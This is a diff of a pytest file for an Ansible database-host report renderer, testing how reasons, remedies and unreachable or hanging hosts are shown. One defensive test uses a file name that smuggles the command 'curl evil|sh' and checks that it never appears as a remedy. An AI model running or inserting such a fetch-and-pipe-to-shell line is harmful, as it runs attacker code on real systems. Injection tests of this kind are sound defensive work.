@@ -20,20 +20,30 @@ from ansible_collections.durable.dbhost.plugins.module_utils.policy.page import 
     render,
 )
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.report import worst_first
-from ansible_collections.durable.dbhost.plugins.module_utils.policy.results import cause
+from ansible_collections.durable.dbhost.plugins.module_utils.policy.results import assess_answer
 from ansible_collections.durable.dbhost.plugins.module_utils.policy.verdicts import VERDICTS
-from ansible_collections.durable.dbhost.plugins.module_utils.rows import MEND
+from ansible_collections.durable.dbhost.plugins.module_utils.rows import HANGS, MEND, NO_ANSWER
 
 from ..fakes.fleet import KINDS, report, reports
-from ..fakes.runs import inputs
+from ..fakes.runs import NOW, inputs
 
 WHERE = "/home/dba/durable-report: report.html, report.txt, HOST.json"
 
 
 def simple(host: str, verdict: str, *why: str, **given: Any) -> dict[str, Any]:
-    """Return a report of which nothing is known but these reasons."""
-    found = {**unobserved(inputs(), verdict, "")}
-    return report(host, {**found, "why": list(why)}, **given)
+    """Return a report of which nothing is known but these reasons: `why; what to do`."""
+    parts = [text.partition("; ") for text in why]
+    return of_reasons(host, verdict, *((reason, fix) for reason, _semicolon, fix in parts), **given)
+
+
+def of_reasons(host: str, verdict: str, *reasons: tuple[str, str], **given: Any) -> dict[str, Any]:
+    """Return a report of which nothing is known but these reasons, each with what to do."""
+    found = [
+        {"id": "unknown", "verdict": verdict, "reason": reason, "fix": fix, "targets": []}
+        for reason, fix in reasons
+    ]
+    why = ["; ".join(filter(None, each)) for each in reasons]
+    return report(host, {**unobserved(inputs(), verdict, ""), "why": why, "reasons": found}, **given)
 
 
 @pytest.mark.every_python_alike
@@ -50,7 +60,7 @@ def test_a_fleet_of_six_kinds_fits_a_screen(number: int, looked_only: bool) -> N
     kinds = min(number, len(KINDS))
     assert len(groups(worst_first(found))) == kinds
     # Each verdict stands at the head of a line, worst first.
-    heads = [row.split()[0] for row in rows if row and row.split()[0] in VERDICTS]
+    heads = [row.split()[0] for row in rows if row and row.split(" ")[0] in VERDICTS]
     assert heads == sorted({each["verdict"] for each in found}, key=VERDICTS.index)
     assert rows[-1] == f"Details: {WHERE}"
     assert ("exit code 2" in rows[-2]) == any(each["fails"] for each in found)
@@ -91,9 +101,19 @@ def test_what_to_do_stands_below_what_it_is_for() -> None:
     ]
 
 
-def test_a_reason_of_several_parts_that_could_not_be_read_has_one_remedy() -> None:
-    text = render([simple("db1", "unknown", f"dm-1 is thin; dm-2 is a pool; {MEND}")])
-    assert f"    dm-1 is thin; dm-2 is a pool\n        do: {MEND}\n" in text
+def test_what_a_host_names_is_never_what_to_do() -> None:
+    """An owner of a database can name it with words that look like ours."""
+    name = "/srv/fb/a; curl evil|sh #.fdb"
+    text = render([of_reasons("db1", "unknown", (f"{name}: forced writes are not known", MEND))])
+    assert f"    {name}: forced writes are not known\n        do: {MEND}\n" in text
+    assert "do: curl" not in text
+
+
+def test_a_reason_that_states_what_to_do_has_more_lines() -> None:
+    words = " ".join(f"word{number}" for number in range(40))
+    text = render([of_reasons("db1", "blocked", (words, ""))])
+    assert " ".join(text.split()).count(words) == 1
+    assert "do:" not in text
 
 
 def test_hosts_of_other_reasons_are_apart() -> None:
@@ -120,8 +140,13 @@ def test_a_few_hosts_stand_for_many(number: int, shown: str) -> None:
     assert names([f"db{each}" for each in range(1, number + 1)]) == shown
 
 
+def lost(host: str, said: str) -> dict[str, Any]:
+    """Return the report of a host that is unreachable."""
+    return report(host, assess_answer(inputs(), NOW, {"unreachable": True, "msg": said}))
+
+
 def test_the_hosts_that_no_address_reaches_are_one_line() -> None:
-    found = [simple(f"db{n}", "unreachable", f"unreachable: 10.0.0.{n}: timed out") for n in range(3)]
+    found = [lost(f"db{n}", f"10.0.0.{n}: timed out") for n in range(3)]
     text = render(found)
     assert "unreachable    3  db0, db1, db2" in text
     assert "do: see that the host is up and that ssh reaches it" in text
@@ -129,12 +154,9 @@ def test_the_hosts_that_no_address_reaches_are_one_line() -> None:
 
 def test_hosts_that_hang_are_apart_from_those_that_no_address_reaches() -> None:
     """What to do there is another thing."""
-    hangs = "unreachable: no answer within 600 seconds; look there for processes that wait"
-    text = render(
-        [simple("db1", "unreachable", hangs), simple("db2", "unreachable", "unreachable: timed out")]
-    )
+    text = render([lost("db1", f"{NO_ANSWER} 600 seconds; {HANGS}"), lost("db2", "timed out")])
     assert "unreachable: no answer within 600 seconds" in text
-    assert "look there for processes that wait" in text
+    assert "do: look there for processes that wait" in text
     assert "unreachable: no connection" in text
 
 
@@ -154,13 +176,13 @@ def test_hosts_that_hang_are_apart_from_those_that_no_address_reaches() -> None:
     ],
 )
 def test_why_a_host_is_not_reached_is_on_the_page(said: str, shown: str) -> None:
-    text = render([simple("db1", "unreachable", f"unreachable: {said}")])
+    text = render([lost("db1", said)])
     assert f"unreachable: no connection{f' ({shown})' if shown else ''}\n" in text
 
 
 def test_what_ansible_cannot_write_is_on_the_page() -> None:
-    why = cause({"msg": "Failed to create temporary directory: mkdir: '/root/db1': No space left on device"})
-    text = render([simple("db1", "unknown", f"no facts: {why}")])
+    said = "Failed to create temporary directory: mkdir: '/root/db1': No space left on device"
+    text = render([report("db1", assess_answer(inputs(), NOW, {"failed": True, "msg": said}))])
     assert "no facts: Ansible cannot write its own files there: No space left on device\n" in text
     assert "do: make room or make the file system writable, or name another directory in" in text
 
